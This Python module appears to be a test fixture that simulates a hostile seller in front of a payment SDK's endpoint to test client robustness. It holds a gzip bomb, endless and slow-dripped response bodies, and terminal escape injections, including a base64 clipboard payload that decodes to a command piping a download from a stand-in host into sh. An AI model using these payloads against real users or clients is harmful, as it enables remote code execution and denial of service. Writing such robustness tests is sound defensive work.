"""A hostile seller in front of the SDK sellers: ``/hostile/<behaviour>/weather/{city}`` is
``/v2/weather/{city}`` — the same terms, paid and settled by the SDK's middleware and
facilitator on the dev chain — with the seller's side of the exchange abused:

=======================  ==========================================================================
``endless-402``          the 402's body never ends (64 MiB, or until the client hangs up)
``slow-402``             the 402's body drips, a byte every 0.2 s for 15 s: no read ever times out
``endless-paid``         settles, then the paid answer never ends (``?bytes=N``: it ends after N)
``gzip-paid``            settles, then a 64 KiB gzip body that expands to 64 MiB
``lying-receipt``        settles, then a receipt whose ``transaction`` is the hash followed by
                         terminal escapes, and an answer full of them too
``rejecting``            answers the paid request with a 402 whose reason is terminal escapes
=======================  ==========================================================================
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import parse_qs

MIB = 1024 * 1024
ENDLESS_BYTES = 64 * MIB
#: What a hostile seller writes to a terminal: the clipboard (OSC 52, a command to paste), the
#: window title, the cursor up and the screen below erased, a C1 CSI, a bidi override, a line
#: separator, then a fake summary line.
TERMINAL_ATTACK = (
    "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x1b\\"
    "\x1b]0;pwned\x07"
    "\x1b[6A\x1b[J"
    "\x9b2J"
    "\u202e"
    "\u2028"
    "paid 0.000001 USDC [REWRITTEN BY SELLER]"
)
#: Characters none of which may reach the terminal as they are.
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2028")

Message = dict[str, Any]


class HostileSeller:
    """ASGI, in front of the sellers' app (see the module's table)."""

    def __init__(self, app: Any) -> None:
        self.app = app

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http" or not scope["path"].startswith("/hostile/"):
            await self.app(scope, receive, send)
            return
        _, _, behaviour, rest = scope["path"].split("/", 3)
        path = "/v2/" + rest
        seller = {**scope, "path": path, "raw_path": path.encode()}
        paid = b"payment-signature" in dict(scope["headers"])
        query = parse_qs(scope.get("query_string", b"").decode())
        if behaviour == "rejecting" and paid:
            await self._reject(send)
            return
        if not paid and behaviour not in ("endless-402", "slow-402"):
            await self.app(seller, receive, send)
            return
        status, headers, _honest_body = await self._answer_of(seller, receive)
        if behaviour == "endless-402":
            await _stream(send, receive, status, headers, _repeated(ENDLESS_BYTES))
        elif behaviour == "slow-402":
            await _stream(send, receive, status, headers, _dripped(seconds=15))
        elif behaviour == "endless-paid":
            size = int(query.get("bytes", [ENDLESS_BYTES])[0])
            await _stream(send, receive, status, headers, _repeated(size))
        elif behaviour == "gzip-paid":
            bomb = gzip.compress(bytes(ENDLESS_BYTES), compresslevel=9)
            await _whole(send, status, [*headers, (b"content-encoding", b"gzip")], bomb)
        elif behaviour == "lying-receipt":
            await _whole(send, status, _lying_receipt(headers), TERMINAL_ATTACK.encode())
        else:
            raise ValueError(f"no hostile behaviour {behaviour!r}")

    async def _answer_of(
        self, scope: Any, receive: Any
    ) -> tuple[int, list[tuple[bytes, bytes]], bytes]:
        """What the honest seller answers (it verifies and settles a paid request)."""
        messages: list[Message] = []

        async def keep(message: Message) -> None:
            messages.append(message)

        await self.app(scope, receive, keep)
        start, *rest = messages
        return start["status"], list(start["headers"]), b"".join(m["body"] for m in rest)

    async def _reject(self, send: Any) -> None:
        receipt = {"success": False, "errorReason": TERMINAL_ATTACK, "network": "eip155:84532"}
        headers = [(b"payment-response", _b64json(receipt)), (b"content-type", b"text/plain")]
        await _whole(send, 402, headers, TERMINAL_ATTACK.encode())


def _b64json(document: dict[str, Any]) -> bytes:
    return base64.b64encode(json.dumps(document).encode())


def _lying_receipt(headers: list[tuple[bytes, bytes]]) -> list[tuple[bytes, bytes]]:
    lied = []
    for name, value in headers:
        if name.lower() == b"payment-response":
            receipt = json.loads(base64.b64decode(value))
            receipt["transaction"] += TERMINAL_ATTACK
            value = _b64json(receipt)
        lied.append((name, value))
    return lied


async def _whole(send: Any, status: int, headers: list[tuple[bytes, bytes]], body: bytes) -> None:
    kept = [(k, v) for k, v in headers if k.lower() != b"content-length"]
    kept.append((b"content-length", str(len(body)).encode()))
    await send({"type": "http.response.start", "status": status, "headers": kept})
    await send({"type": "http.response.body", "body": body})


async def _stream(
    send: Any,
    receive: Any,
    status: int,
    headers: list[tuple[bytes, bytes]],
    chunks: AsyncIterator[bytes],
) -> None:
    """The body in chunks (no length), until they run out or the client hangs up."""
    kept = [(k, v) for k, v in headers if k.lower() != b"content-length"]
    await send({"type": "http.response.start", "status": status, "headers": kept})
    hung_up = asyncio.ensure_future(_disconnect(receive))
    try:
        async for chunk in chunks:
            if hung_up.done():
                return
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
        await send({"type": "http.response.body", "body": b""})
    finally:
        hung_up.cancel()


async def _disconnect(receive: Any) -> None:
    while (await receive())["type"] != "http.disconnect":
        pass


async def _repeated(size: int) -> AsyncIterator[bytes]:
    chunk = b"A" * (64 * 1024)
    for start in range(0, size, len(chunk)):
        yield chunk[: size - start]
        await asyncio.sleep(0)  # let the disconnect be noticed


async def _dripped(*, seconds: float) -> AsyncIterator[bytes]:
    for _ in range(int(seconds / 0.2)):
        yield b" "
        await asyncio.sleep(0.2)
